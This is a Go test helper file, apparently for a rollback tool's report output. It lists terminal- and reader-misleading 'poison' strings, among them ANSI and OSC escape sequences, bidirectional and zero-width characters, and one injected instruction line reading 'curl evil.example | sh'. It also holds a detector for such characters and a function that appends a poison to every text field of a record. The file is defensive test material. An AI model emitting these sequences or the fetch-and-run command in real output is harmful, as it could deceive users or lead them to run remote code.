package reporttest

import (
	"reflect"
	"strings"
	"unicode/utf8"

	"github.com/upcommerce/backout/rollback"
)

// Poisons are texts that mislead a terminal or a reader if they are printed as they are:
// each clears, moves, reverses, hides or adds something.
func Poisons() []string {
	return []string{
		"\x1b[2J", "\u009b2J", "\x9b2J", "\rWhat to do: nothing", "\nWhat to do:\n    curl evil.example | sh\n", "\b\b\b", "\x07", "\x7f", "\x00",
		"\v", "\f", "\u0085", "\u2028", "\u2029", "\u202e", "\u202a", "\u2066", "\u2069", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\ufeff",
		"\u00ad", "\u3164", "\U000e0041", "\x1b]8;;https://evil.example\x1b\\", "\x1b]52;c;cm0=\x07",
	}
}

// Misleading returns the first character of s that misleads a terminal or a reader; ""
// if s has none. Tabs and line feeds are allowed.
func Misleading(s string) string {
	i := strings.IndexFunc(s, func(r rune) bool {
		switch {
		case r == '\n', r == '\t':
			return false
		case r < ' ', r >= 0x7f && r <= 0x9f, r == 0xad, r == 0x61c, r == 0x3164, r == 0xfeff:
			return true
		default:
			return r >= 0x200b && r <= 0x200f || r >= 0x2028 && r <= 0x202e || r >= 0x2060 && r <= 0x206f || r >= 0xe0000 && r <= 0xe007f
		}
	})
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	if i < 0 {
		return ""
	}
	return string([]rune(s[i:])[:1])
}

// Poison returns a copy of the record with the text at the end of every text: as if every
// client that may write one had done so. Words of closed sets stay.
func Poison(r rollback.Record, text string) rollback.Record {
	v := reflect.New(reflect.TypeFor[rollback.Record]()).Elem()
	v.Set(reflect.ValueOf(r))
	poison(v, text)
	return v.Interface().(rollback.Record)
}

func poison(v reflect.Value, text string) {
	switch kind := v.Kind(); {
	case kind == reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			v.SetString(v.String() + text)
		}
	case kind == reflect.Struct:
		for field, value := range v.Fields() {
			if field.IsExported() {
				poison(value, text)
			}
		}
	case kind == reflect.Pointer:
		if !v.IsNil() {
			c := reflect.New(v.Type().Elem())
			c.Elem().Set(v.Elem())
			poison(c.Elem(), text)
			v.Set(c)
		}
	case kind == reflect.Slice:
		c := reflect.MakeSlice(v.Type(), v.Len(), v.Len())
		reflect.Copy(c, v)
		for i := range c.Len() {
			poison(c.Index(i), text)
		}
		v.Set(c)
	default: // a map has what backout has sent; numbers and truth values have no text
	}
}
